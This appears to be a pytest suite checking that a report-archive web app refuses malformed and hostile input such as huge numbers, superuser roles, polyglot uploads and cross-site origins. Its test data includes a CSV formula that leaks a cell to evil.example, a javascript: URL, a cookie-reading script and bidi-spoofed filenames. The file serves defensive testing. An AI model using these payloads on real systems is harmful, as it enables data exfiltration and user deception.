"""Input an attacker or a careless hand types: odd numbers, formulas, scripts, polyglots, direction
overrides. Each is refused with a message (400/422), never a 500, and nothing is stored from it."""

from __future__ import annotations

import csv
import io

import pytest

from tests.live_server import wait_for_job
from tests.logins import log_in
from tests.pdfs import text_pdf

LESSON = (
    "5 Lessons learned\nThe most important lesson is that maintenance of the planted trees must be planned and "
    "budgeted before planting starts, or the trees dry out during the first summer. " * 3
)


@pytest.fixture(scope="module")
def client(app_client):
    """The app on a copy of the sample reports, logged in as an admin."""
    log_in(app_client, "admin")
    return app_client


@pytest.fixture(scope="module")
def draft(client, tmp_path_factory) -> int:
    """A report uploaded and read, still a draft: the review form's target."""
    pdf = text_pdf(tmp_path_factory.mktemp("draft") / "trees.pdf", ["School yards - final report", LESSON])
    job = client.post("/api/uploads", files={"file": ("trees.pdf", pdf.read_bytes(), "application/pdf")}).json()
    done = wait_for_job(client, job["id"])
    assert done["state"] == "done", done
    return done["report_id"]


def _refused(answer) -> str:
    assert answer.status_code in (400, 422), (answer.status_code, answer.text[:300])
    assert "Traceback" not in answer.text
    return answer.text


@pytest.mark.parametrize(
    "params",
    [{"year": "\u00b2"}, {"year": "9" * 5000}, {"year": "-2020"}],
    ids=["superscript-two", "5000-digits", "negative"],
)
def test_an_odd_year_on_the_search_page_is_refused(client, params):
    """A year that is not four ASCII digits from 1900 to 2100 is a 400 naming the field, not a 500."""
    assert "year" in _refused(client.get("/", params={"q": "elbussar", **params}))
    assert client.get("/", params={"q": "elbussar", "year": ""}).status_code == 200  # an empty field is no filter


@pytest.mark.parametrize(
    "form, field",
    [
        ({"period_start": "\u00b2"}, "start year"),
        ({"period_end": "99999999999999999999999"}, "end year"),
        ({"partner-1-name": "Norrvik kommun", "partner-1-page": "\u00b2"}, "page of partner 1"),
        ({"partner-1-name": "Norrvik kommun", "partner-1-country": "=1"}, "country of partner 1"),
        ({"contact-1-name": "Anna", "contact-1-email": "javascript:alert(1)"}, "e-mail address of contact 1"),
        ({"contact-1-name": "Anna", "contact-1-phone": "=HYPERLINK(1)"}, "phone number of contact 1"),
        ({"budget_total": "<S"}, "total budget"),
        ({"eu_funding": "1e400"}, "EU funding"),
        ({"currency": "=1"}, "currency"),
        ({"title": "Evil\u202etxt.exe"}, "title"),
        ({"period_start": "2023", "period_end": "2020"}, "start year"),
    ],
)
def test_the_review_form_refuses_values_it_cannot_store_as_typed(client, draft, form, field):
    """Each wrong value is refused with a message naming the field, and the report stays as it was."""
    before = client.get(f"/api/reports/{draft}").json()
    answer = client.post(f"/reports/{draft}/review", data={"title": "Changed title", **form})
    assert field in _refused(answer)
    after = client.get(f"/api/reports/{draft}").json()
    assert after["report"]["title"] == before["report"]["title"] and after["partners"] == before["partners"]


def test_the_review_form_stores_valid_values_cleaned(client, draft):
    """Valid values are stored parsed: an ISO country in upper case, an amount with spaces, a normalised e-mail."""
    form = {
        "title": "School yards",
        "budget_total": "1 250 000",
        "currency": "eur",
        "partner-1-name": "Norrvik kommun",
        "partner-1-country": "se",
        "contact-1-name": "Anna Lindqvist",
        "contact-1-email": "Anna.Lindqvist@Norrvik.Example.org",
    }
    assert client.post(f"/reports/{draft}/review", data=form, follow_redirects=False).status_code == 303
    stored = client.get(f"/api/reports/{draft}").json()
    assert stored["report"]["budget_total"] == 1250000 and stored["report"]["currency"] == "EUR"
    assert stored["partners"][0]["country"] == "SE"
    assert stored["contacts"][0]["email"] == "Anna.Lindqvist@norrvik.example.org"


def test_csv_exports_neutralise_formulas(client, draft):
    """A programme or partner name that starts a formula comes out of the CSV exports with a leading apostrophe."""
    formula = '=HYPERLINK("https://evil.example/?leak="&A1,"click")'
    form = {"title": "Formula", "programme": formula, "partner-1-name": "@SUM(1+1)", "publish": "1"}
    assert client.post(f"/reports/{draft}/review", data=form, follow_redirects=False).status_code == 303
    programmes = list(csv.reader(io.StringIO(client.get("/followup/programme.csv").text.lstrip("\ufeff"))))
    partners = list(csv.reader(io.StringIO(client.get("/followup/partners.csv").text.lstrip("\ufeff"))))
    cells = [cell for row in programmes[1:] + partners[1:] for cell in row]
    assert "'" + formula in cells and "'@SUM(1+1)" in cells
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
    assert all(not cell.startswith("-") or cell.lstrip("-").replace(".", "").isdigit() for cell in cells)


def test_huge_ids_in_forms_are_refused(client):
    """Ids past SQLite's integer range in form fields answer 400/422, not an overflow 500."""
    _refused(client.post("/collections/items", data={"collection": str(2**63), "kind": "report", "ref": "1"}))
    created = client.post("/api/collections", json={"name": "Ids"}).json()["id"]
    answer = client.post("/collections/items", data={"collection": str(created), "kind": "report", "ref": "9" * 30})
    assert "report" in _refused(answer)
    organisations = client.get("/api/organisations").json()["organisations"]
    merge = client.post(f"/organisations/{organisations[0]['id']}/merge", data={"other": "1" * 30})
    assert "organisation" in _refused(merge)


def test_an_unknown_role_in_the_accounts_form_is_refused(client):
    """role=superuser is a 422 with a message, not a 500."""
    client.post("/admin/users", data={"name": "role-target", "role": "reader"})
    _refused(client.post("/admin/users/role-target", data={"action": "role", "role": "superuser"}))
    _refused(client.post("/admin/users", data={"name": "someone", "role": "superuser"}))


@pytest.mark.parametrize("name", ["Läs\u202egnp.exe", "Invisible\u2066isolate", "Bell\x07", "Two\nlines"])
def test_collection_names_refuse_control_and_direction_characters(client, name):
    """A collection name with a bidi override, an isolate or a control character is refused by form and API."""
    _refused(client.post("/collections", data={"name": name}))
    _refused(client.post("/api/collections", json={"name": name}))


def test_an_html_pdf_polyglot_is_not_a_pdf(client):
    """A file that starts as an HTML page and carries a PDF further on is refused: %PDF- must open the file."""
    polyglot = b"<html><script>alert(document.cookie)</script>\n" + text_pdf_bytes()
    answer = client.post("/api/uploads", files={"file": ("poly.pdf", polyglot, "application/pdf")})
    assert answer.status_code == 400 and "not a PDF" in answer.json()["error"]
    bom = b"\xef\xbb\xbf \n" + text_pdf_bytes(salt="bom")
    assert client.post("/api/uploads", files={"file": ("bom.pdf", bom, "application/pdf")}).status_code == 202


def test_a_report_downloads_as_a_pdf_whatever_it_was_called(client):
    """A report uploaded as page.html is served as application/pdf named *.pdf, and never kept in a cache."""
    job = client.post("/api/uploads", files={"file": ("page.html", text_pdf_bytes(salt="named"), "text/html")}).json()
    report_id = wait_for_job(client, job["id"])["report_id"]
    for download in ("false", "true"):
        pdf = client.get(f"/reports/{report_id}/pdf", params={"download": download})
        assert pdf.headers["content-type"] == "application/pdf"
        assert (
            pdf.headers["content-disposition"].endswith('.pdf"')
            and "page.html.pdf" in pdf.headers["content-disposition"]
        )
        assert pdf.headers["cache-control"] == "no-store"


def test_an_origin_with_another_scheme_is_cross_site(client):
    """http://testserver is not https://testserver: a state change from it is refused and the message says why."""
    answer = client.post("/api/collections", json={"name": "From http"}, headers={"Origin": "http://testserver"})
    assert answer.status_code == 403 and "KB_TRUSTED_PROXIES" in answer.json()["error"]
    assert client.post("/api/collections", json={"name": "Same"}, headers={"Origin": "https://testserver"}).is_success


def text_pdf_bytes(salt: str = "") -> bytes:
    """A small readable PDF (fpdf2), different for each salt."""
    from fpdf import FPDF

    pdf = FPDF()
    pdf.set_font("Helvetica", size=11)
    pdf.add_page()
    pdf.multi_cell(0, 6, f"Report {salt}\n" + LESSON)
    return bytes(pdf.output())
